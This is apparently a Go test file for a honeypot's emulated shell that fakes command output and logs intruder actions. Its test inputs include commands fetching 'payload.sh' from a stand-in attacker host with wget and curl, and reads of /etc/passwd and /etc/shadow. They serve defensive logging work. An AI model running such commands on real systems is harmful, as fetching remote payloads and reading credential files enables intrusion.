package shell

import (
	"bytes"
	"strings"
	"testing"

	"github.com/tidelock/bittern/internal/event"
)

func testShell(report Reporter) *Shell {
	return New(Options{
		Username: "root",
		Hostname: "srv01",
		Home:     "/root",
		UID:      0,
		Report:   report,
	})
}

func TestBasicCommands(t *testing.T) {
	s := testShell(nil)
	cases := []struct {
		cmd  string
		want string
	}{
		{"whoami", "root"},
		{"pwd", "/root"},
		{"hostname", "srv01"},
		{"id", "uid=0(root)"},
		{"echo hello world", "hello world"},
		{"uname", "Linux"},
		{"uname -a", "x86_64 GNU/Linux"},
		{"nosuchcmd", "command not found"},
	}
	for _, c := range cases {
		var out bytes.Buffer
		if err := s.Run(c.cmd, &out); err != nil {
			t.Fatalf("%s: %v", c.cmd, err)
		}
		if !strings.Contains(out.String(), c.want) {
			t.Fatalf("%s: output %q missing %q", c.cmd, out.String(), c.want)
		}
	}
}

func TestExitReturnsLogout(t *testing.T) {
	s := testShell(nil)
	var out bytes.Buffer
	if err := s.Run("exit", &out); err != ErrLogout {
		t.Fatalf("exit returned %v", err)
	}
	if err := s.Run("logout", &out); err != ErrLogout {
		t.Fatalf("logout returned %v", err)
	}
}

func TestCdChangesPrompt(t *testing.T) {
	s := testShell(nil)
	var out bytes.Buffer
	if err := s.Run("cd /var", &out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(s.Prompt(), ":/var#") {
		t.Fatalf("prompt = %q", s.Prompt())
	}
	if err := s.Run("cd", &out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(s.Prompt(), ":~#") {
		t.Fatalf("prompt = %q", s.Prompt())
	}
}

func TestChainedCommands(t *testing.T) {
	s := testShell(nil)
	var out bytes.Buffer
	if err := s.Run("cd /tmp && pwd; whoami", &out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "/tmp") || !strings.Contains(out.String(), "root") {
		t.Fatalf("output = %q", out.String())
	}
}

func TestWgetReportsDownload(t *testing.T) {
	var gotID string
	var gotFields map[string]any
	s := testShell(func(id string, fields map[string]any) {
		gotID = id
		gotFields = fields
	})

	var out bytes.Buffer
	if err := s.Run("wget http://evil.example/payload.sh", &out); err != nil {
		t.Fatal(err)
	}
	if gotID != event.FileDownload {
		t.Fatalf("event id = %q", gotID)
	}
	if gotFields["url"] != "http://evil.example/payload.sh" {
		t.Fatalf("url = %v", gotFields["url"])
	}
	if gotFields["shasum"] == "" {
		t.Fatal("missing shasum")
	}

	// Same URL twice reports the same checksum.
	first := gotFields["shasum"]
	out.Reset()
	if err := s.Run("curl http://evil.example/payload.sh", &out); err != nil {
		t.Fatal(err)
	}
	if gotFields["shasum"] != first {
		t.Fatal("checksum not deterministic for same URL")
	}
}

func TestCatPasswdListsUser(t *testing.T) {
	s := New(Options{Username: "intruder", Home: "/home/intruder", UID: 1337})
	var out bytes.Buffer
	if err := s.Run("cat /etc/passwd", &out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "intruder:x:1337:1337") {
		t.Fatalf("passwd output missing synthetic user: %q", out.String())
	}
}

func TestSudoUnwraps(t *testing.T) {
	s := New(Options{Username: "intruder", Home: "/home/intruder", UID: 1337})
	var out bytes.Buffer
	if err := s.Run("sudo whoami", &out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "intruder") {
		t.Fatalf("output = %q", out.String())
	}
}

func TestWgetWithoutURLReportsFailure(t *testing.T) {
	var gotID string
	s := testShell(func(id string, fields map[string]any) {
		gotID = id
	})

	var out bytes.Buffer
	if err := s.Run("wget -q -O- ", &out); err != nil {
		t.Fatal(err)
	}
	if gotID != event.FileDownloadFailed {
		t.Fatalf("event id = %q", gotID)
	}
	if !strings.Contains(out.String(), "missing URL") {
		t.Fatalf("output = %q", out.String())
	}
}

func TestCatShadowDenied(t *testing.T) {
	s := testShell(nil)
	var out bytes.Buffer
	if err := s.Run("cat /etc/shadow", &out); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(out.String(), "cat: /etc/shadow: Permission denied") {
		t.Fatalf("output = %q", out.String())
	}
	if _, ok := FileContent("/etc/shadow", "root", 0, "/root"); ok {
		t.Fatal("restricted path served as readable content")
	}
	if !Restricted("/etc/shadow") {
		t.Fatal("/etc/shadow not restricted")
	}
}
